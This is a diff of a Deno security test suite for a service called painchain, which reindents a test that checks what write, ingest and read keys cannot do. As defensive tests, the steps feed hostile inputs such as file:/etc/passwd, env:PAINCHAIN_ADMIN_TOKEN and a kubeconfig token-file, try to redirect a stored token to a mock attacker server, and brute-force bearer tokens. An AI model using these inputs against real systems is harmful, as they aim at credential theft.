@@ -17,7 +17,7 @@ import {
   silentLogger,
 } from "@painchain/shared/internal";
 import { FakeGithub } from "@painchain/testing/fake_github";
-import { waitFor } from "@painchain/testing";
+import { serviceTest, waitFor } from "@painchain/testing";
 import { pipelineTest, startPipeline, TEST_ADMIN_TOKEN, testGateway } from "@painchain/testing/pipeline";
 import { connection, githubPullsOnly, putConnection } from "@painchain/testing/poll";
 import { githubPipelineTest } from "@painchain/testing/e2e";
@@ -45,399 +45,394 @@ const json = (method: string, body: unknown, token?: string): RequestInit => ({
   body: JSON.stringify(body),
 });
 
-Deno.test({
-  name: "security: what a write, ingest or read key (or no key) cannot do",
-  sanitizeResources: false,
-  sanitizeOps: false,
-  fn: async (t) => {
-    const evil = attacker();
-    const fake = await new FakeGithub({ token: "ghp_stored_canary" }).start();
-    const pl = await startPipeline({
-      gateway: { sseRecheckMs: 200, failureLimit: { max: 15, windowMs: 60_000 } },
-    });
-    // Connectors as in production, but with a plain fetch (no egress policy): the checks below must hold by
-    // themselves, not only because loopback is refused.
-    await pl.connector(githubConnector({ retryBaseMs: 10 }), "gh-1");
-    await pl.connector(kubernetesConnector({ watchSeconds: 1 }), "k8s-1");
-    await pl.connector(painchainConnector, "pc-1");
-    const key = async (name: string, scopes: string[]) =>
-      (await (await pl.app.request("/api/keys", json("POST", { name, scopes }))).json()) as {
-        key: string;
-        id: string;
-      };
-    const write = await key("ci bot", ["write"]);
-    const ingestA = await key("deploys-a", ["ingest"]);
-    const ingestB = await key("deploys-b", ["ingest"]);
-    const read = await key("viewer", ["read"]);
-    const as = (k: { key: string } | null, path: string, init: RequestInit = {}) => {
-      const headers = new Headers(init.headers);
-      if (k) headers.set("authorization", `Bearer ${k.key}`);
-      return pl.raw.request(path, { ...init, headers });
+serviceTest("security: what a write, ingest or read key (or no key) cannot do", async (t) => {
+  const evil = attacker();
+  const fake = await new FakeGithub({ token: "ghp_stored_canary" }).start();
+  const pl = await startPipeline({
+    gateway: { sseRecheckMs: 200, failureLimit: { max: 15, windowMs: 60_000 } },
+  });
+  // Connectors as in production, but with a plain fetch (no egress policy): the checks below must hold by
+  // themselves, not only because loopback is refused.
+  await pl.connector(githubConnector({ retryBaseMs: 10 }), "gh-1");
+  await pl.connector(kubernetesConnector({ watchSeconds: 1 }), "k8s-1");
+  await pl.connector(painchainConnector, "pc-1");
+  const key = async (name: string, scopes: string[]) =>
+    (await (await pl.app.request("/api/keys", json("POST", { name, scopes }))).json()) as {
+      key: string;
+      id: string;
     };
-    try {
-      // A real connection, made by the admin, holding a real token.
-      const created = await pl.app.request(
-        "/api/connections",
+  const write = await key("ci bot", ["write"]);
+  const ingestA = await key("deploys-a", ["ingest"]);
+  const ingestB = await key("deploys-b", ["ingest"]);
+  const read = await key("viewer", ["read"]);
+  const as = (k: { key: string } | null, path: string, init: RequestInit = {}) => {
+    const headers = new Headers(init.headers);
+    if (k) headers.set("authorization", `Bearer ${k.key}`);
+    return pl.raw.request(path, { ...init, headers });
+  };
+  try {
+    // A real connection, made by the admin, holding a real token.
+    const created = await pl.app.request(
+      "/api/connections",
+      json("POST", {
+        id: "prod-gh",
+        connector: "github",
+        name: "Prod GitHub",
+        config: { token: "ghp_stored_canary", repositories: "octo/app", baseUrl: fake.url },
+      }),
+    );
+    assert.equal(created.status, 201, await created.clone().text());
+
+    await t.step(
+      "1. env: and file: references from a write key are refused with a 400 that says why",
+      async () => {
+        for (
+          const ref of [
+            "env:PAINCHAIN_ADMIN_TOKEN",
+            "env:PAINCHAIN_SECRET_KEY",
+            "env:DATABASE_URL",
+            "file:/etc/passwd",
+          ]
+        ) {
+          for (const path of ["/api/connections/test", "/api/connections"]) {
+            const res = await as(
+              write,
+              path,
+              json("POST", {
+                connector: "github",
+                name: "x",
+                config: { token: ref, repositories: "o/r", baseUrl: `${evil.url}/api/v3` },
+              }),
+            );
+            assert.equal(res.status, 400, `${path} ${ref}`);
+            assert.match((await res.json()).error, /configuration as code/);
+          }
+        }
+        // The admin may reference, but only CONNECTION_SECRET_* variables and files in the secrets folder.
+        const admin = await pl.app.request(
+          "/api/connections/test",
+          json("POST", {
+            connector: "github",
+            config: {
+              token: "env:PAINCHAIN_ADMIN_TOKEN",
+              repositories: "o/r",
+              baseUrl: `${evil.url}/api/v3`,
+            },
+          }),
+        );
+        assert.equal(admin.status, 400);
+        assert.match((await admin.json()).error, /CONNECTION_SECRET_/);
+        assert.equal(evil.seen.length, 0, "the attacker's server heard nothing");
+      },
+    );
+
+    await t.step(
+      "1b. a reference written to KV behind the gateway's back is still not resolved",
+      async () => {
+        await putConnection(
+          pl.tn.buckets.connections,
+          connection(
+            "github",
+            { repositories: ["o/r"], baseUrl: `${evil.url}/api/v3` },
+            { token: "env:PAINCHAIN_ADMIN_TOKEN" },
+            { id: "sneaky", name: "sneaky", tags: [] },
+          ),
+        );
+        const status = await waitFor(
+          async () => {
+            const list = await (await pl.app.request("/api/connectors/metadata")).json();
+            const s = list.find((m: { id: string }) => m.id === "github")?.instances.flatMap((
+              i: { connections: { connectionId: string; lastError: string | null }[] },
+            ) => i.connections)
+              .find((c: { connectionId: string }) => c.connectionId === "sneaky");
+            return s?.lastError ? s : null;
+          },
+          10_000,
+          "the refused reference in the status",
+        );
+        assert.match(status.lastError, /CONNECTION_SECRET_/);
+        assert.equal(evil.seen.length, 0);
+        await pl.tn.buckets.connections.delete(connectionKey("github", "sneaky"));
+      },
+    );
+
+    await t.step("2. a stored token is never sent to a new host without being entered again", async () => {
+      const test = await as(
+        write,
+        "/api/connections/test",
         json("POST", {
-          id: "prod-gh",
           connector: "github",
-          name: "Prod GitHub",
-          config: { token: "ghp_stored_canary", repositories: "octo/app", baseUrl: fake.url },
+          id: "prod-gh",
+          config: { baseUrl: `${evil.url}/api/v3` },
         }),
       );
-      assert.equal(created.status, 201, await created.clone().text());
-
-      await t.step(
-        "1. env: and file: references from a write key are refused with a 400 that says why",
-        async () => {
-          for (
-            const ref of [
-              "env:PAINCHAIN_ADMIN_TOKEN",
-              "env:PAINCHAIN_SECRET_KEY",
-              "env:DATABASE_URL",
-              "file:/etc/passwd",
-            ]
-          ) {
-            for (const path of ["/api/connections/test", "/api/connections"]) {
-              const res = await as(
-                write,
-                path,
-                json("POST", {
-                  connector: "github",
-                  name: "x",
-                  config: { token: ref, repositories: "o/r", baseUrl: `${evil.url}/api/v3` },
-                }),
-              );
-              assert.equal(res.status, 400, `${path} ${ref}`);
-              assert.match((await res.json()).error, /configuration as code/);
-            }
-          }
-          // The admin may reference, but only CONNECTION_SECRET_* variables and files in the secrets folder.
-          const admin = await pl.app.request(
-            "/api/connections/test",
-            json("POST", {
-              connector: "github",
-              config: {
-                token: "env:PAINCHAIN_ADMIN_TOKEN",
-                repositories: "o/r",
-                baseUrl: `${evil.url}/api/v3`,
-              },
-            }),
-          );
-          assert.equal(admin.status, 400);
-          assert.match((await admin.json()).error, /CONNECTION_SECRET_/);
-          assert.equal(evil.seen.length, 0, "the attacker's server heard nothing");
-        },
+      assert.equal(test.status, 400);
+      assert.match((await test.json()).error, /GitHub Enterprise API URL.*Token.*enter it again/);
+      const put = await as(
+        write,
+        "/api/connections/prod-gh",
+        json("PUT", { config: { baseUrl: `${evil.url}/api/v3` } }),
       );
-
-      await t.step(
-        "1b. a reference written to KV behind the gateway's back is still not resolved",
-        async () => {
-          await putConnection(
-            pl.tn.buckets.connections,
-            connection(
-              "github",
-              { repositories: ["o/r"], baseUrl: `${evil.url}/api/v3` },
-              { token: "env:PAINCHAIN_ADMIN_TOKEN" },
-              { id: "sneaky", name: "sneaky", tags: [] },
-            ),
-          );
-          const status = await waitFor(
-            async () => {
-              const list = await (await pl.app.request("/api/connectors/metadata")).json();
-              const s = list.find((m: { id: string }) => m.id === "github")?.instances.flatMap((
-                i: { connections: { connectionId: string; lastError: string | null }[] },
-              ) => i.connections)
-                .find((c: { connectionId: string }) => c.connectionId === "sneaky");
-              return s?.lastError ? s : null;
-            },
-            10_000,
-            "the refused reference in the status",
-          );
-          assert.match(status.lastError, /CONNECTION_SECRET_/);
-          assert.equal(evil.seen.length, 0);
-          await pl.tn.buckets.connections.delete(connectionKey("github", "sneaky"));
-        },
+      assert.equal(put.status, 400);
+      assert.equal(evil.seen.length, 0);
+      // With its own token the caller may point anywhere: it only sends what it typed.
+      const own = await as(
+        write,
+        "/api/connections/test",
+        json("POST", {
+          connector: "github",
+          id: "prod-gh",
+          config: { baseUrl: `${evil.url}/api/v3`, token: "attackers-own-token" },
+        }),
       );
+      assert.equal(own.status, 200);
+      assert.ok(evil.seen.length > 0);
+      assert.ok(
+        evil.seen.every((r) => !JSON.stringify(r).includes("ghp_stored_canary")),
+        "the stored token never left",
+      );
+      evil.seen.length = 0;
+    });
 
-      await t.step("2. a stored token is never sent to a new host without being entered again", async () => {
-        const test = await as(
-          write,
-          "/api/connections/test",
-          json("POST", {
-            connector: "github",
-            id: "prod-gh",
-            config: { baseUrl: `${evil.url}/api/v3` },
-          }),
-        );
-        assert.equal(test.status, 400);
-        assert.match((await test.json()).error, /GitHub Enterprise API URL.*Token.*enter it again/);
-        const put = await as(
-          write,
-          "/api/connections/prod-gh",
-          json("PUT", { config: { baseUrl: `${evil.url}/api/v3` } }),
-        );
-        assert.equal(put.status, 400);
-        assert.equal(evil.seen.length, 0);
-        // With its own token the caller may point anywhere: it only sends what it typed.
-        const own = await as(
-          write,
-          "/api/connections/test",
-          json("POST", {
-            connector: "github",
-            id: "prod-gh",
-            config: { baseUrl: `${evil.url}/api/v3`, token: "attackers-own-token" },
-          }),
-        );
-        assert.equal(own.status, 200);
-        assert.ok(evil.seen.length > 0);
-        assert.ok(
-          evil.seen.every((r) => !JSON.stringify(r).includes("ghp_stored_canary")),
-          "the stored token never left",
-        );
-        evil.seen.length = 0;
-      });
+    await t.step("4. error texts name the failure, never the upstream's body or headers", async () => {
+      const res = await as(
+        write,
+        "/api/connections/test",
+        json("POST", {
+          connector: "github",
+          config: { repositories: "o/r", baseUrl: `${evil.url}/api/v3` },
+        }),
+      );
+      const body = await res.text();
+      assert.equal(JSON.parse(body).ok, false);
+      assert.match(JSON.parse(body).message, /HTTP 500 Internal Server Error \(127\.0\.0\.1:\d+\)/);
+      assert.ok(
+        !body.includes("hunter2") && !body.includes("INTERNAL-ONLY") && !body.includes("secret-header"),
+      );
+      evil.seen.length = 0;
+    });
 
-      await t.step("4. error texts name the failure, never the upstream's body or headers", async () => {
+    await t.step(
+      "3. a pasted kubeconfig may not name local files; parse errors do not quote it",
+      async () => {
+        const kubeconfig = [
+          "apiVersion: v1",
+          "clusters: [{name: c, cluster: {server: '" + evil.url + "'}}]",
+          "users: [{name: u, user: {token-file: /etc/passwd}}]",
+          "contexts: [{name: x, context: {cluster: c, user: u}}]",
+          "current-context: x",
+        ].join("\n");
         const res = await as(
           write,
           "/api/connections/test",
           json("POST", {
-            connector: "github",
-            config: { repositories: "o/r", baseUrl: `${evil.url}/api/v3` },
+            connector: "kubernetes",
+            config: { auth: "kubeconfig", kubeconfig },
           }),
         );
-        const body = await res.text();
-        assert.equal(JSON.parse(body).ok, false);
-        assert.match(JSON.parse(body).message, /HTTP 500 Internal Server Error \(127\.0\.0\.1:\d+\)/);
-        assert.ok(
-          !body.includes("hunter2") && !body.includes("INTERNAL-ONLY") && !body.includes("secret-header"),
+        const answer = await res.json();
+        assert.equal(answer.ok, false);
+        assert.match(answer.message, /inline data.*token-file/);
+        const create = await as(
+          write,
+          "/api/connections",
+          json("POST", {
+            connector: "kubernetes",
+            name: "k",
+            config: { auth: "kubeconfig", kubeconfig },
+          }),
         );
-        evil.seen.length = 0;
-      });
-
-      await t.step(
-        "3. a pasted kubeconfig may not name local files; parse errors do not quote it",
-        async () => {
-          const kubeconfig = [
-            "apiVersion: v1",
-            "clusters: [{name: c, cluster: {server: '" + evil.url + "'}}]",
-            "users: [{name: u, user: {token-file: /etc/passwd}}]",
-            "contexts: [{name: x, context: {cluster: c, user: u}}]",
-            "current-context: x",
-          ].join("\n");
-          const res = await as(
-            write,
-            "/api/connections/test",
-            json("POST", {
-              connector: "kubernetes",
-              config: { auth: "kubeconfig", kubeconfig },
-            }),
-          );
-          const answer = await res.json();
-          assert.equal(answer.ok, false);
-          assert.match(answer.message, /inline data.*token-file/);
-          const create = await as(
-            write,
-            "/api/connections",
-            json("POST", {
-              connector: "kubernetes",
-              name: "k",
-              config: { auth: "kubeconfig", kubeconfig },
-            }),
-          );
-          assert.equal(create.status, 400, "refused on create too, by the connector's own check");
-          const broken = await as(
-            write,
-            "/api/connections/test",
-            json("POST", {
-              connector: "kubernetes",
-              config: {
-                auth: "kubeconfig",
-                kubeconfig: "users:\n- user:\n    token: s3cr3t-k8s-canary\n   x: [",
-              },
-            }),
-          );
-          const text = await broken.text();
-          assert.match(text, /not valid YAML/);
-          assert.ok(!text.includes("s3cr3t-k8s-canary"));
-          assert.equal(evil.seen.length, 0, "nothing, /etc/passwd least of all, reached the attacker");
-        },
-      );
-
-      await t.step("5. a webhook secret that is a device file is refused, not read", async () => {
-        const dir = await Deno.makeTempDir();
-        try {
-          await Deno.symlink("/dev/zero", `${dir}/zero`);
-          const key = await importSecretKey(undefined);
-          await putConnection(
-            pl.tn.buckets.connections,
-            connection(
-              "github",
-              { repositories: ["o/r"] },
-              { webhookSecret: await sealSecret(key, `file:${dir}/zero`) },
-              { id: "zero", name: "zero", tags: [] },
-            ),
-          );
-          const started = Date.now();
-          const res = await pl.raw.request("/api/webhooks/github/zero", {
-            method: "POST",
-            headers: {
-              "x-hub-signature-256": "sha256=00",
-              "x-github-event": "push",
-              "x-github-delivery": "d1",
+        assert.equal(create.status, 400, "refused on create too, by the connector's own check");
+        const broken = await as(
+          write,
+          "/api/connections/test",
+          json("POST", {
+            connector: "kubernetes",
+            config: {
+              auth: "kubeconfig",
+              kubeconfig: "users:\n- user:\n    token: s3cr3t-k8s-canary\n   x: [",
             },
-            body: "{}",
-          });
-          assert.equal(res.status, 401);
-          assert.ok(Date.now() - started < 2_000);
-        } finally {
-          await Deno.remove(dir, { recursive: true });
-        }
-      });
-
-      await t.step("6. the timeline has a bin cap and a range cap", async () => {
-        const huge = await as(read, "/api/timeline?from=0001-01-01T00:00:00Z&to=9999-12-31T00:00:00Z");
-        assert.equal(huge.status, 400);
-        const long = await as(read, "/api/timeline?from=2007-01-01T00:00:00Z&to=2026-01-01T00:00:00Z");
-        assert.equal(long.status, 200);
-        const tl = await long.json();
-        assert.ok(tl.bins.length <= 120, `${tl.bins.length} bins`);
-      });
-
-      await t.step(
-        "9. what the change API answers 202 for is stored: NUL and lone surrogates get 400",
-        async () => {
-          for (
-            const bad of [{ title: "a\u0000b" }, { title: "x", description: "\ud800" }, {
-              title: "x",
-              metadata: { "k\u0000": 1 },
-            }]
-          ) {
-            const res = await as(ingestA, "/api/changes", json("POST", bad));
-            assert.equal(res.status, 400, JSON.stringify(bad));
-          }
-          const deep = JSON.parse("[".repeat(5000) + "]".repeat(5000));
-          const res = await as(ingestA, "/api/changes", json("POST", { title: "deep", metadata: { deep } }));
-          assert.equal(res.status, 400);
-          assert.match((await res.json()).detail, /nest/);
-        },
-      );
-
-      await t.step("10. malformed URLs and odd origins get 4xx, never 500", async () => {
-        assert.equal((await as(read, "/api/events?cursor=%ff")).status, 400);
-        assert.equal((await as(read, "/api/events?q=%E0%A4%A")).status, 400);
-        assert.equal((await pl.raw.request("/%FF")).status, 400);
-        const signin = await pl.raw.request("/api/auth/session", json("POST", { token: TEST_ADMIN_TOKEN }));
-        const cookie = signin.headers.get("set-cookie")!.split(";")[0]!;
-        const res = await pl.raw.request("/api/teams", {
-          ...json("POST", { name: "t", tags: ["a"] }),
-          headers: { "content-type": "application/json", cookie, origin: "null" },
-        });
-        assert.equal(res.status, 403);
-      });
-
-      await t.step("12. one ingest key cannot overwrite another's CloudEvent change", async () => {
-        const ce = (title: string) => ({
-          specversion: "1.0",
-          id: "deploy-1",
-          source: "/ci/acme",
-          type: "com.acme.deploy",
-          data: { title },
-        });
-        const a = await (await as(ingestA, "/api/changes", json("POST", ce("by A")))).json();
-        const b = await (await as(ingestB, "/api/changes", json("POST", ce("by B")))).json();
-        assert.notEqual(a.id, b.id, "the same source and id from another key names another change");
-        const row = await waitFor(
-          async () => (await pl.sql`SELECT title FROM change_events WHERE id = ${a.id}`)[0],
-          5_000,
+          }),
         );
-        assert.equal(row.title, "by A");
-      });
+        const text = await broken.text();
+        assert.match(text, /not valid YAML/);
+        assert.ok(!text.includes("s3cr3t-k8s-canary"));
+        assert.equal(evil.seen.length, 0, "nothing, /etc/passwd least of all, reached the attacker");
+      },
+    );
 
-      await t.step("12b. audit events name the actor, and connection tests are audited", async () => {
-        const events = await waitFor(
-          async () => {
-            const rows = await pl
-              .sql`SELECT event_type, author, title, subject FROM change_events WHERE connector = 'painchain'`;
-            return rows.some((r) => r.event_type === "ConnectionTested") ? rows : null;
+    await t.step("5. a webhook secret that is a device file is refused, not read", async () => {
+      const dir = await Deno.makeTempDir();
+      try {
+        await Deno.symlink("/dev/zero", `${dir}/zero`);
+        const key = await importSecretKey(undefined);
+        await putConnection(
+          pl.tn.buckets.connections,
+          connection(
+            "github",
+            { repositories: ["o/r"] },
+            { webhookSecret: await sealSecret(key, `file:${dir}/zero`) },
+            { id: "zero", name: "zero", tags: [] },
+          ),
+        );
+        const started = Date.now();
+        const res = await pl.raw.request("/api/webhooks/github/zero", {
+          method: "POST",
+          headers: {
+            "x-hub-signature-256": "sha256=00",
+            "x-github-event": "push",
+            "x-github-delivery": "d1",
           },
-          15_000,
-          "audit events",
-        );
-        const created = events.find((r) =>
-          r.event_type === "ConnectorCreated" && r.subject === "github/prod-gh"
-        )!;
-        assert.equal(created.author, "admin");
-        const sneaky = events.find((r) =>
-          r.event_type === "ConnectorCreated" && r.subject === "github/sneaky"
-        )!;
-        assert.equal(sneaky.author, "unknown", "written behind the API's back: no actor to name");
-        const tested = events.filter((r) => r.event_type === "ConnectionTested");
-        assert.ok(tested.some((r) => r.author === `key ci bot (${write.id})`), JSON.stringify(tested));
-        assert.ok(events.some((r) => r.event_type === "ApiKeyCreated" && r.author === "admin"));
-      });
+          body: "{}",
+        });
+        assert.equal(res.status, 401);
+        assert.ok(Date.now() - started < 2_000);
+      } finally {
+        await Deno.remove(dir, { recursive: true });
+      }
+    });
 
-      await t.step("13. an open live stream ends when its key is revoked", async () => {
-        const res = await as(read, "/api/events/stream");
-        assert.equal(res.status, 200);
-        const reader = res.body!.getReader();
-        await reader.read();
-        assert.equal((await pl.app.request(`/api/keys/${read.id}`, { method: "DELETE" })).status, 204);
-        const ended = await Promise.race([
-          (async () => {
-            for (;;) if ((await reader.read()).done) return true;
-          })(),
-          new Promise((r) => setTimeout(() => r(false), 5_000)),
-        ]);
-        assert.equal(ended, true, "the stream closed after the revocation");
-      });
+    await t.step("6. the timeline has a bin cap and a range cap", async () => {
+      const huge = await as(read, "/api/timeline?from=0001-01-01T00:00:00Z&to=9999-12-31T00:00:00Z");
+      assert.equal(huge.status, 400);
+      const long = await as(read, "/api/timeline?from=2007-01-01T00:00:00Z&to=2026-01-01T00:00:00Z");
+      assert.equal(long.status, 200);
+      const tl = await long.json();
+      assert.ok(tl.bins.length <= 120, `${tl.bins.length} bins`);
+    });
 
-      await t.step("14. webhooks: the rate limit is per caller, not per path", async () => {
-        let limited = 0;
-        // The burst is 120 and 10 more come back each second: on a slow machine it takes more than 121 tries.
-        for (let i = 0; i < 2000 && !limited; i++) {
-          const res = await pl.raw.request(`/api/webhooks/github/id-${i}`, {
-            method: "POST",
-            headers: {
-              "x-hub-signature-256": "sha256=00",
-              "x-github-event": "push",
-              "x-github-delivery": `d${i}`,
-            },
-            body: "{}",
+    await t.step(
+      "9. what the change API answers 202 for is stored: NUL and lone surrogates get 400",
+      async () => {
+        for (
+          const bad of [{ title: "a\u0000b" }, { title: "x", description: "\ud800" }, {
+            title: "x",
+            metadata: { "k\u0000": 1 },
+          }]
+        ) {
+          const res = await as(ingestA, "/api/changes", json("POST", bad));
+          assert.equal(res.status, 400, JSON.stringify(bad));
+        }
+        const deep = JSON.parse("[".repeat(5000) + "]".repeat(5000));
+        const res = await as(ingestA, "/api/changes", json("POST", { title: "deep", metadata: { deep } }));
+        assert.equal(res.status, 400);
+        assert.match((await res.json()).detail, /nest/);
+      },
+    );
+
+    await t.step("10. malformed URLs and odd origins get 4xx, never 500", async () => {
+      assert.equal((await as(read, "/api/events?cursor=%ff")).status, 400);
+      assert.equal((await as(read, "/api/events?q=%E0%A4%A")).status, 400);
+      assert.equal((await pl.raw.request("/%FF")).status, 400);
+      const signin = await pl.raw.request("/api/auth/session", json("POST", { token: TEST_ADMIN_TOKEN }));
+      const cookie = signin.headers.get("set-cookie")!.split(";")[0]!;
+      const res = await pl.raw.request("/api/teams", {
+        ...json("POST", { name: "t", tags: ["a"] }),
+        headers: { "content-type": "application/json", cookie, origin: "null" },
+      });
+      assert.equal(res.status, 403);
+    });
+
+    await t.step("12. one ingest key cannot overwrite another's CloudEvent change", async () => {
+      const ce = (title: string) => ({
+        specversion: "1.0",
+        id: "deploy-1",
+        source: "/ci/acme",
+        type: "com.acme.deploy",
+        data: { title },
+      });
+      const a = await (await as(ingestA, "/api/changes", json("POST", ce("by A")))).json();
+      const b = await (await as(ingestB, "/api/changes", json("POST", ce("by B")))).json();
+      assert.notEqual(a.id, b.id, "the same source and id from another key names another change");
+      const row = await waitFor(
+        async () => (await pl.sql`SELECT title FROM change_events WHERE id = ${a.id}`)[0],
+        5_000,
+      );
+      assert.equal(row.title, "by A");
+    });
+
+    await t.step("12b. audit events name the actor, and connection tests are audited", async () => {
+      const events = await waitFor(
+        async () => {
+          const rows = await pl
+            .sql`SELECT event_type, author, title, subject FROM change_events WHERE connector = 'painchain'`;
+          return rows.some((r) => r.event_type === "ConnectionTested") ? rows : null;
+        },
+        15_000,
+        "audit events",
+      );
+      const created = events.find((r) =>
+        r.event_type === "ConnectorCreated" && r.subject === "github/prod-gh"
+      )!;
+      assert.equal(created.author, "admin");
+      const sneaky = events.find((r) =>
+        r.event_type === "ConnectorCreated" && r.subject === "github/sneaky"
+      )!;
+      assert.equal(sneaky.author, "unknown", "written behind the API's back: no actor to name");
+      const tested = events.filter((r) => r.event_type === "ConnectionTested");
+      assert.ok(tested.some((r) => r.author === `key ci bot (${write.id})`), JSON.stringify(tested));
+      assert.ok(events.some((r) => r.event_type === "ApiKeyCreated" && r.author === "admin"));
+    });
+
+    await t.step("13. an open live stream ends when its key is revoked", async () => {
+      const res = await as(read, "/api/events/stream");
+      assert.equal(res.status, 200);
+      const reader = res.body!.getReader();
+      await reader.read();
+      assert.equal((await pl.app.request(`/api/keys/${read.id}`, { method: "DELETE" })).status, 204);
+      const ended = await Promise.race([
+        (async () => {
+          for (;;) if ((await reader.read()).done) return true;
+        })(),
+        new Promise((r) => setTimeout(() => r(false), 5_000)),
+      ]);
+      assert.equal(ended, true, "the stream closed after the revocation");
+    });
+
+    await t.step("14. webhooks: the rate limit is per caller, not per path", async () => {
+      let limited = 0;
+      // The burst is 120 and 10 more come back each second: on a slow machine it takes more than 121 tries.
+      for (let i = 0; i < 2000 && !limited; i++) {
+        const res = await pl.raw.request(`/api/webhooks/github/id-${i}`, {
+          method: "POST",
+          headers: {
+            "x-hub-signature-256": "sha256=00",
+            "x-github-event": "push",
+            "x-github-delivery": `d${i}`,
+          },
+          body: "{}",
+        });
+        if (res.status === 429) limited = i;
+        await res.body?.cancel();
+      }
+      assert.ok(limited > 0, "varying the id did not escape the limit");
+    });
+
+    await t.step(
+      "7. guessing bearer tokens is cut off, and the right one is refused meanwhile",
+      async () => {
+        let blockedAt = 0;
+        for (let i = 0; i < 40 && !blockedAt; i++) {
+          const res = await pl.raw.request("/api/events", {
+            headers: { authorization: `Bearer guess-${i}` },
           });
-          if (res.status === 429) limited = i;
+          if (res.status === 429) blockedAt = i;
+          else assert.equal(res.status, 401);
           await res.body?.cancel();
         }
-        assert.ok(limited > 0, "varying the id did not escape the limit");
-      });
-
-      await t.step(
-        "7. guessing bearer tokens is cut off, and the right one is refused meanwhile",
-        async () => {
-          let blockedAt = 0;
-          for (let i = 0; i < 40 && !blockedAt; i++) {
-            const res = await pl.raw.request("/api/events", {
-              headers: { authorization: `Bearer guess-${i}` },
-            });
-            if (res.status === 429) blockedAt = i;
-            else assert.equal(res.status, 401);
-            await res.body?.cancel();
-          }
-          assert.ok(blockedAt > 0 && blockedAt <= 15, `blocked after ${blockedAt}`);
-          const right = await pl.raw.request("/api/events", {
-            headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` },
-          });
-          assert.equal(right.status, 429);
-          assert.ok(Number(right.headers.get("retry-after")) > 0);
-        },
-      );
-    } finally {
-      await pl.close();
-      await fake.stop();
-      await evil.stop();
-    }
-  },
+        assert.ok(blockedAt > 0 && blockedAt <= 15, `blocked after ${blockedAt}`);
+        const right = await pl.raw.request("/api/events", {
+          headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` },
+        });
+        assert.equal(right.status, 429);
+        assert.ok(Number(right.headers.get("retry-after")) > 0);
+      },
+    );
+  } finally {
+    await pl.close();
+    await fake.stop();
+    await evil.stop();
+  }
 });
 
 pipelineTest("security: a session ends when the admin token is rotated", async (pl) => {
